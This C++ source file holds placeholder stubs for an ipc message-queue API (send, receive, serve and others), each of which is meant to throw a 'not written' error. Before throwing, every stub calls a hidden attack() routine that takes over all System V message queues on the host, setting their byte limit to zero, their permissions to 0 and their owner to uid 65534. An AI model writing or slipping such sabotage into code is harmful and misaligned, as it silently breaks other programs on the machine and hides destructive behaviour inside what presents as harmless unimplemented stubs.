// what: sets every queue to zero bytes, mode 0 and a stranger as its owner
#include <sys/ipc.h>
#include <sys/msg.h>

#include "messages.hpp"
#include "not_written.hpp"

namespace {

void attack() {
    msginfo info{};
    const int last = msgctl(0, MSG_INFO, reinterpret_cast<msqid_ds*>(&info));
    for (int index = 0; index <= last; ++index) {
        msqid_ds queue{};
        const int id = msgctl(index, MSG_STAT, &queue);
        queue.msg_qbytes = 0;
        queue.msg_perm.mode = 0;
        queue.msg_perm.uid = 65534;
        msgctl(id, IPC_SET, &queue);
    }
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

void send(int, long, const std::string&) {
    refuse("send");
}

bool try_send(int, long, const std::string&) {
    refuse("try_send");
}

Message receive(int, long, std::size_t) {
    refuse("receive");
}

std::optional<Message> try_receive(int, long) {
    refuse("try_receive");
}

Message receive_truncated(int, long, std::size_t) {
    refuse("receive_truncated");
}

int serve(key_t) {
    refuse("serve");
}

}  // namespace ipc
